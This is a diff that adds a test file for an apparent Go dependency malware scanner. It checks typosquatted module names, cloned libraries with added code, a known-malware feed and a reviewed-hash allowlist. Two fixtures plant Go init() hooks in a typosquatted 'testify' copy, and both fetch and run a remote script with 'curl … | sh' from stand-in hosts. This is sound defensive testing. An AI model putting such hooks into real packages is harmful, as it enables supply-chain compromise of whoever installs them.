@@ -1,0 +1,137 @@
+// scan end to end: names, feeds, dates and copies join what is found in the code to one verdict.
+import assert from 'node:assert/strict'
+import test from 'node:test'
+import { evil, moduleAt, scan } from '../support/scanning.ts'
+import { publish, put, withUniverse } from '../support/universe.ts'
+import path from 'node:path'
+
+/** A library that is large enough to be told apart: a dozen functions of its own. */
+const LIBRARY = `package assert
+
+${Array.from(
+  { length: 14 },
+  (_, i) => `// Check${i} compares values.
+func Check${i}(values []int, limit int) (int, bool) {
+	sum := ${i}
+	for index, value := range values {
+		if value > limit+${i} {
+			sum += value * index
+		} else if value == ${i * 3} {
+			return sum, false
+		}
+	}
+	return sum, sum > limit
+}
+`,
+).join('\n')}`
+const HOOK = `package assert
+
+import "os/exec"
+
+func init() { exec.Command("sh", "-c", "curl -fsSL https://cdn.assert.invalid/x | sh").Run() }
+`
+const real = publish('github.com/stretchr/testify', 'v1.9.0', { 'assert.go': LIBRARY })
+const typo = publish('github.com/strechr/testify', 'v1.9.0', { 'note.go': 'package testify\n' })
+
+test('a name that imitates a well-known one is suspicious, with what was meant and the line that replaces it', async () => {
+  await withUniverse(async (u) => {
+    u.sound([typo])
+    const { code, report } = await scan(u)
+    assert.equal(code, 1)
+    const found = moduleAt(report, typo.path)
+    assert.equal(found.verdict, 'suspicious')
+    const [finding] = found.findings
+    assert.deepEqual([finding?.rule, finding?.severity, finding?.trigger], ['MW-NAME-OWNER1', 'high', 'record'])
+    assert.match(finding?.message ?? '', /; probably meant: github\.com\/stretchr\/testify$/)
+    assert.match(
+      finding?.remedy ?? '',
+      /^go get github\.com\/stretchr\/testify@latest && go mod edit -droprequire=github\.com\/strechr\/testify/,
+    )
+    const { stdout } = await u.run(['scan'])
+    assert.match(stdout, /\n {2}looks like.*probably meant: github\.com\/stretchr\/testify {3}high MW-NAME-OWNER1\n/)
+  })
+})
+
+test('a copy of a well-known module with something added is malicious, and says of what', async () => {
+  await withUniverse(async (u) => {
+    const copy = publish('github.com/strechr/testify', 'v1.9.0', { 'assert.go': LIBRARY, 'hook.go': HOOK })
+    u.sound([copy])
+    u.serve([real])
+    u.cache([real])
+    const found = moduleAt((await scan(u)).report, copy.path)
+    assert.equal(found.verdict, 'malicious')
+    const clone = found.findings.find((f) => f.rule === 'MW-CLONE')
+    assert.deepEqual([clone?.severity, clone?.file], ['critical', 'hook.go'])
+    assert.match(
+      clone?.message ?? '',
+      /^\d+ % of its code is that of github\.com\/stretchr\/testify@v1\.9\.0, and what was added is MW-/,
+    )
+    // The original itself is no copy of anything.
+    u.require([real])
+    assert.deepEqual((await scan(u)).report.modules.find((m) => m.path === real.path)?.findings, [])
+  })
+})
+
+test('a module that is named is compared with the one that it imitates, which is fetched', async () => {
+  await withUniverse(async (u) => {
+    const copy = publish('github.com/strechr/testify', 'v1.9.0', { 'assert.go': LIBRARY })
+    u.serve([real, copy])
+    const { report } = await scan(u, ['github.com/strechr/testify@v1.9.0'])
+    assert.deepEqual(
+      moduleAt(report, copy.path).findings.map((f) => [f.rule, f.severity]),
+      [
+        ['MW-NAME-OWNER1', 'high'],
+        ['MW-CLONE', 'high'],
+      ],
+    )
+    const offline = await scan(u, ['github.com/strechr/testify@v1.9.0', '--offline'])
+    assert.ok(!moduleAt(offline.report, copy.path).findings.some((f) => f.rule === 'MW-CLONE'))
+  })
+})
+
+test('known malware is malicious whatever its code says', async () => {
+  await withUniverse(async (u) => {
+    const known = publish('github.com/boltdb-go/bolt', 'v1.3.1', { 'bolt.go': 'package bolt\n' })
+    u.sound([known])
+    const found = moduleAt((await scan(u)).report, known.path)
+    assert.equal(found.verdict, 'malicious')
+    const finding = found.findings.find((f) => f.rule === 'MW-KNOWN-BAD')
+    assert.deepEqual(
+      [finding?.severity, finding?.message],
+      ['critical', 'known malware: malicious code in github.com/boltdb-go/bolt: impersonates github.com/boltdb/bolt'],
+    )
+  })
+})
+
+test('a list of good hashes silences what is found in those bytes, and says so', async () => {
+  await withUniverse(async (u) => {
+    u.sound([evil])
+    const list = put(path.join(u.root, 'good.txt'), `${evil.h1} ${evil.path} ${evil.version} reviewed by kim\n`)
+    const env = { MODWARDEN_KNOWN_GOOD: list }
+    assert.equal((await u.run(['feed', 'update'], { env })).code, 0)
+    const { code, report } = await scan(u, [], { env })
+    assert.equal(code, 0)
+    const found = moduleAt(report, evil.path)
+    assert.deepEqual([found.verdict, found.findings], ['clean', []])
+    assert.equal(found.record?.knownGood?.reason, 'reviewed by kim')
+    assert.match(
+      (await u.run(['scan'], { env })).stdout,
+      /says that these bytes are good: reviewed by kim; \d+ findings? not counted/,
+    )
+    // Other bytes than the agreed ones are on no list.
+    put(
+      path.join(u.paths(evil).folder, 'evil.go'),
+      'package evil\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl x.invalid | sh").Run() }\n',
+    )
+    assert.equal(moduleAt((await scan(u, [], { env })).report, evil.path).verdict, 'malicious')
+  })
+})
+
+test('the number of a module’s record is told, and that its commit is older than the log', async () => {
+  await withUniverse(async (u) => {
+    u.sound([typo])
+    const found = moduleAt((await scan(u)).report, typo.path)
+    assert.equal(found.record?.committed, '2020-01-01T00:00:00.000Z')
+    assert.equal(typeof found.record?.number, 'number')
+  })
+})
